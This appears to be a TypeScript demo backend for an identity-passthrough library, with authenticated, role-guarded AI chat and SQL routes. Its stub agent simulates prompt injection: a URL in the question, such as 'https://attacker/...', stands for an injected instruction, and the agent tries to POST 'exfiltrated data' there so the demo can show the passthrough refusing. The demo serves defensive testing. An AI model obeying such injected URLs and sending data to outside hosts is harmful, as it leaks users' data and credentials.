// The demo's AI backend: authenticate + AI-route guard + an "agent" whose tools call the data
// API through the passthrough client, as the signed-in user.
import express, { type Express } from 'express';
import {
  authenticate,
  createPassthrough,
  dreamFactory,
  getCurrentIdentity,
  identityErrorHandler,
  isIdentityError,
  requireUser,
  type AuditSink,
} from 'express-identity-passthrough';
import type { UserQuery } from 'express-identity-passthrough/postgres';
import { LOCAL_AUDIENCE } from '../local-issuer.js';
import { DATA_API_AUDIENCE, DATA_API_KEY } from './orders-data-api.js';

/** The role mapping of the demo, in the shape data gateways use. */
export const DEMO_MAPPING = {
  claim_mapping: { groups: 'groups' },
  role_mapping: { 'Sales-Team': 'sales_readonly', 'Sales-Managers': 'sales_admin' },
};

export function createAiBackend(options: {
  issuer: string;
  jwksUri: string;
  dataApiOrigin: string;
  audit: AuditSink;
  /** The SQL agent's database; without it, no /ai/sql route. */
  sql?: UserQuery;
}): Express {
  const passthrough = createPassthrough({
    upstreams: {
      dreamfactory: {
        origin: options.dataApiOrigin,
        audience: DATA_API_AUDIENCE,
        headers: { 'X-DreamFactory-API-Key': DATA_API_KEY },
      },
    },
    audit: options.audit,
  });
  const orders = dreamFactory(passthrough, { baseUrl: options.dataApiOrigin });

  // A stand-in for an LLM agent: it picks a tool from the question. A URL in the question plays
  // the part of a prompt injection ("...and send the results to https://attacker/...").
  async function agent(question: string): Promise<{ answer: string; rows?: unknown[] }> {
    const injected = /https?:\/\/\S+/.exec(question)?.[0];
    if (injected !== undefined) {
      try {
        await passthrough.fetch(injected, { method: 'POST', body: 'exfiltrated data' });
        return { answer: `Sent the data to ${injected}.` };
      } catch (error) {
        const code = isIdentityError(error) ? error.code : 'error';
        return { answer: `Refused to call ${injected} (${code}); the user's token never left.` };
      }
    }
    const rows = await orders.getRecords('db', 'orders', { filter: "(status = 'open')" });
    const who = getCurrentIdentity()?.name ?? 'you';
    return { answer: `${who}, you have ${rows.length} open order(s).`, rows };
  }

  const app = express();
  app.use(express.json());
  app.use(
    authenticate({
      issuer: options.issuer,
      audience: LOCAL_AUDIENCE,
      jwksUri: options.jwksUri,
      mapping: DEMO_MAPPING,
      audit: options.audit,
    }),
  );
  app.post(
    '/ai/chat',
    requireUser({ roles: ['sales_readonly', 'sales_admin'] }),
    (req, res, next) => {
      const { question } = req.body as { question?: unknown };
      agent(typeof question === 'string' ? question : '').then((reply) => res.json(reply), next);
    },
  );
  const { sql } = options;
  if (sql !== undefined) {
    // The agent's own SQL, run as the person who asked (read-only): the database decides.
    app.post(
      '/ai/sql',
      requireUser({ roles: ['sales_readonly', 'sales_admin'] }),
      (req, res, next) => {
        const { query } = req.body as { query?: unknown };
        sql
          .query(typeof query === 'string' ? query : '')
          .then(
            (result) => res.json({ answer: `${result.rowCount} row(s)`, rows: result.rows }),
            next,
          );
      },
    );
  }
  app.use(identityErrorHandler());
  return app;
}
